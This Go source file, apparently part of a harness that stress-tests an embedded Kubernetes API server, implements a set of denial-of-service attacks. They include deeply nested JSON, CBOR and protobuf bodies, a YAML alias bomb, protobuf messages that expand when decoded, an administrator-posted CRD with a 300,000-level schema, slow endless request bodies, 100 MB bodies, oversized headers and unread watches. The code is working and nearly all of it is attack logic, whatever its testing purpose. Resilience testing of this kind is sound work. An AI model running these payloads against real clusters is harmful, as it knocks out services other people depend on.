// Copyright The kubembed Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"k8s.io/apimachinery/pkg/runtime"
)

const (
	customResources = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
	protobuf        = "application/vnd.kubernetes.protobuf"
)

// post sends a body with a bearer token, and returns the status, or 0.
func (t *target) post(ctx context.Context, hc *http.Client, path, token, contentType string, body io.Reader, s *stats) int {
	ctx, cancel := context.WithTimeout(ctx, 70*time.Second)
	defer cancel()
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, t.URL+path, body)
	if err != nil {
		panic(err)
	}
	r.Header.Set("Content-Type", contentType)
	if token != "" {
		r.Header.Set("Authorization", "Bearer "+token)
	}
	s.tries.Add(1)
	response, err := hc.Do(r)
	if err != nil {
		return 0
	}
	defer func() { _ = response.Body.Close() }()
	_, _ = io.Copy(io.Discard, io.LimitReader(response.Body, 1<<20))
	s.answered.Add(1)
	s.note(response.Status)
	return response.StatusCode
}

// bombs posts bodies in turn, a few at once.
func bombs(ctx context.Context, t *target, s *stats, contentType string, bodies ...func() []byte) {
	hc := browserless()
	defer hc.CloseIdleConnections()
	token := t.token(joinBodies)
	parallel(2, func() {
		next := 0
		rounds(ctx, 500*time.Millisecond, func() {
			t.post(ctx, hc, requests, token, contentType, bytes.NewReader(bodies[next%len(bodies)]()), s)
			next++
		})
	})
}

func repeated(prefix, part string, n int) func() []byte {
	body := append([]byte(prefix), strings.Repeat(part, n)...)
	return func() []byte { return body }
}

func deepJSON(ctx context.Context, t *target, s *stats) {
	bombs(ctx, t, s, "application/json", repeated("", `{"a":`, 500_000),
		repeated(`{"metadata":{"managedFields":`, `[`, 1_400_000), repeated(`{"metadata":{"labels":`, `{"a":`, 300_000))
}

func deepYAML(ctx context.Context, t *target, s *stats) {
	var bomb strings.Builder
	bomb.WriteString("a: &a [x,x,x,x,x,x,x,x,x]\n")
	for c := 'b'; c < 'j'; c++ {
		bomb.WriteString(strings.ReplaceAll(strings.ReplaceAll("N: &N [*P,*P,*P,*P,*P,*P,*P,*P,*P]\n", "N", string(c)), "P", string(c-1)))
	}
	bombs(ctx, t, s, "application/yaml", repeated(bomb.String(), "", 0), repeated("", "- ", 1_000_000), repeated("a: ", "[", 1_000_000))
}

func deepCBOR(ctx context.Context, t *target, s *stats) {
	bombs(ctx, t, s, "application/cbor", repeated("\xd9\xd9\xf7", "\x81", 2_000_000), repeated("\xd9\xd9\xf7", "\xa1\x61a", 600_000))
}

// emptyConditions posts messages that become much larger objects.
func emptyConditions(ctx context.Context, t *target, s *stats) {
	body := object("certificates.k8s.io/v1", "CertificateSigningRequest",
		append(message(1, message(1, []byte("x"))), message(3, bytes.Repeat([]byte{1<<3 | 2, 0}, 1_500_000))...))
	hc := browserless()
	defer hc.CloseIdleConnections()
	token := t.token(joinLarge)
	parallel(8, func() {
		rounds(ctx, 200*time.Millisecond, func() {
			t.post(ctx, hc, requests, token, protobuf, bytes.NewReader(body), s)
		})
	})
}

// deepProtobuf posts a CRD with the deepest possible schema. Only an administrator may:
// like every message, it is decoded before it is validated.
func deepProtobuf(ctx context.Context, t *target, s *stats) {
	const levels, not = 300_000, 28
	sizes, size := make([]int, levels), 0
	for i := range levels {
		sizes[i] = size
		size += len(tag(not, size))
	}
	schema := make([]byte, 0, size)
	for i := levels - 1; i >= 0; i-- {
		schema = append(schema, tag(not, sizes[i])...)
	}
	version := append(append(message(1, []byte("v1")), 0x10, 1, 0x18, 1), message(4, message(1, schema))...)
	names := append(message(1, []byte("as")), message(4, []byte("A"))...)
	spec := bytes.Join([][]byte{message(1, []byte("x.example.com")), message(3, names), message(4, []byte("Namespaced")), message(7, version)}, nil)
	body := object("apiextensions.k8s.io/v1", "CustomResourceDefinition", append(message(1, message(1, []byte("as.x.example.com"))), message(2, spec)...))

	admin, done := client(t.config(t.Admin))
	defer done()
	rounds(ctx, time.Second, func() {
		s.tries.Add(1)
		ctx, cancel := context.WithTimeout(ctx, 90*time.Second)
		defer cancel()
		status := 0
		admin.CoreV1().RESTClient().Post().AbsPath(customResources).SetHeader("Content-Type", protobuf).Body(body).Do(ctx).StatusCode(&status)
		if status != 0 {
			s.answered.Add(1)
			s.note(http.StatusText(status))
		}
	})
}

// tag returns the beginning of a field of a protobuf message with size bytes.
func tag(field, size int) []byte {
	return binary.AppendUvarint(binary.AppendUvarint(nil, uint64(field)<<3|2), uint64(size))
}

func message(field int, data []byte) []byte { return append(tag(field, len(data)), data...) }

// object returns a message of a kind in the form of the API.
func object(apiVersion, kind string, raw []byte) []byte {
	u := runtime.Unknown{TypeMeta: runtime.TypeMeta{APIVersion: apiVersion, Kind: kind}, Raw: raw}
	data, err := u.Marshal()
	if err != nil {
		panic(err)
	}
	return append([]byte("k8s\x00"), data...)
}

// endless is an endless body of slow spaces.
type endless struct{ ctx context.Context }

func (e endless) Read(p []byte) (int, error) {
	select {
	case <-e.ctx.Done():
		return 0, io.EOF
	case <-time.After(200 * time.Millisecond):
		p[0] = ' '
		return 1, nil
	}
}

func endlessBodies(ctx context.Context, t *target, s *stats) {
	hc := browserless()
	defer hc.CloseIdleConnections()
	token := t.token(joinBodies)
	parallel(10, func() {
		rounds(ctx, 100*time.Millisecond, func() { t.post(ctx, hc, requests, token, "application/json", endless{ctx}, s) })
	})
}

// spaces is an endless body that comes as fast as it is read.
type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// largeBodies sends 100 MB, with a token and without.
func largeBodies(ctx context.Context, t *target, s *stats) {
	hc := browserless()
	defer hc.CloseIdleConnections()
	tokens := []string{t.token(joinBodies), ""}
	next := 0
	rounds(ctx, time.Second, func() {
		t.post(ctx, hc, requests, tokens[next%2], "application/json", io.LimitReader(spaces{}, 100<<20), s)
		next++
	})
}

// largeHeaders sends 800 kB of headers.
func largeHeaders(ctx context.Context, t *target, s *stats) {
	hc := browserless()
	defer hc.CloseIdleConnections()
	value := strings.Repeat("v", 400)
	rounds(ctx, 200*time.Millisecond, func() {
		ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, t.URL+"/version", nil)
		if err != nil {
			panic(err)
		}
		for i := range 2000 {
			r.Header.Set("X-"+strings.Repeat("a", i%50)+string(rune('a'+i%26)), value)
		}
		r.Header.Set("X-Large", strings.Repeat(value, 2000))
		s.tries.Add(1)
		if response, err := hc.Do(r); err == nil {
			_ = response.Body.Close()
			s.answered.Add(1)
		}
	})
}

// unreadWatches opens watches and lists of objects that change all the time, and does
// not read them.
func unreadWatches(ctx context.Context, t *target, s *stats) {
	hc := t.httpClient(t.Low)
	defer hc.CloseIdleConnections()
	var n atomic.Int64
	parallel(40, func() {
		query := []string{"", "?watch=1&resourceVersion=0"}[n.Add(1)%2]
		rounds(ctx, time.Second, func() {
			ctx, cancel := context.WithTimeout(ctx, 15*time.Second)
			defer cancel()
			r, err := http.NewRequestWithContext(ctx, http.MethodGet, t.URL+"/api/v1/configmaps"+query, nil)
			if err != nil {
				panic(err)
			}
			s.tries.Add(1)
			if response, err := hc.Do(r); err == nil {
				s.answered.Add(1)
				s.note(response.Status)
				<-ctx.Done()
				_ = response.Body.Close()
			}
		})
	})
}
